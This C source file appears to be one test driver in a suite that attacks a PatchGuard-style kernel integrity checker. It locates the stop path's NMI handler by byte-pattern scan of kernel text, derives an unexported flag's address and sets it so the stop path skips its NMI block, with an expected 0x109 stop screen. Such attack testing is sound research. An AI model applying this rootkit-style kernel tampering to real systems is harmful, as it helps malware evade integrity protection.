/* attack_a144_nmi_taken (A144): the stop path's "NMIs already blocked" flag set beforehand.
 * Before its first line PatchGuard's stop path blocks NMIs (A140): an IDT
 * of its own, a self-NMI whose handler marks a byte of kernel data
 * (`pg_stop_nmi_taken`) and returns without IRET. The path skips the
 * block when that byte is already set (the stop routine, entered after
 * the report, finds it set by the report's own block). This driver finds
 * the byte the way a rootkit finds unexported data: the handler's code
 * (`movb $1, rel32(%rip)` followed by `mov (%rsp), %r11; mov 0x18(%rsp),
 * %rsp; jmp *%r11`) by a scan of kernel text, the byte from its
 * displacement, and sets it. No region changes. Loaded before
 * attack_a140_nmi_stop (whose NMI gate halts once the stop path has
 * begun), the next stop path runs with NMIs unblocked. Expected: 0x109
 * with its stop screen (before: the machine halted inside the report, no
 * stop screen, no event). */
#include "attack_pg.h"

status_t driver_entry(struct driver_object *drv)
{
	static const uint8_t tail[] = {0x4C, 0x8B, 0x1C, 0x24, 0x48, 0x8B, 0x64, 0x24, 0x18, 0x41, 0xFF, 0xE3};
	uint64_t q = a_find(A_TEXT, tail, sizeof tail);
	const uint8_t *m = (const uint8_t *)(q - 7);
	if (!q || m[0] != 0xC6 || m[1] != 0x05 || m[6] != 1) {
		printk("attack_a144: the stop path's NMI handler not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	int32_t rel;
	memcpy(&rel, m + 2, 4);
	volatile uint8_t *taken = (volatile uint8_t *)(q + rel);
	*taken = 1;
	printk("attack_a144: the stop path's NMI-taken flag set, its NMI block looks done\n");
	printk("~ attack_a144: flag at %p\n", (void *)taken);
	return KPP_STATUS_SUCCESS;
}
